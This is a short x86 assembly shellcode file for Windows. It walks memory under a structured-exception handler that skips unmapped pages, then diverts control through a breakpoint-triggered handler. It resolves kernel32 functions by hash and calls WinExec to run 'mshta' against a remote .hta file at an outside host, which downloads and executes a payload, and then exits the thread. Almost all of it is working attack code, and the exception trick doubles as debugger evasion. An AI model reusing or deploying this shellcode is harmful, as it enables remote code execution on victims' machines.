# Looks for its text by reading through memory that is not there, page after page, with a handler that moves
# it on; then hides where it goes behind a breakpoint, whose handler starts a command.
.include "common.inc"
start:
  call 1f
1:
  pop ebp
  sub ebp, 5                  # where it lies
  lea eax, [ebp + moves_on - start]
  push eax
  xor ecx, ecx
  push fs:[ecx]
  mov fs:[ecx], esp
  mov esi, 0x0C0B8000         # nothing is there
search:
  mov eax, [esi]
  cmp esi, ebp
  jb found_nothing
  pop fs:[ecx]
  pop eax
  lea eax, [ebp + starts - start]
  push eax
  push fs:[ecx]
  mov fs:[ecx], esp
  int3
  jmp $
found_nothing:
  inc esi
  jmp search
# (record, frame, context, …): the next page, the same instruction.
moves_on:
  mov ecx, [esp + 12]
  add dword ptr [ecx + 0xA0], 0x1000
  xor eax, eax
  ret
starts:
  mov esp, [esp + 8]
  xor ecx, ecx
  pop fs:[ecx]
  pop eax
  find_kernel32
  jmp data
begin:
  pop edi
  push 0
  push edi
  call_by_hash WinExec
  push 0
  call_by_hash ExitThread
find_function_code
data:
  call begin
  .asciz "mshta http://files.example/exceptions.hta"
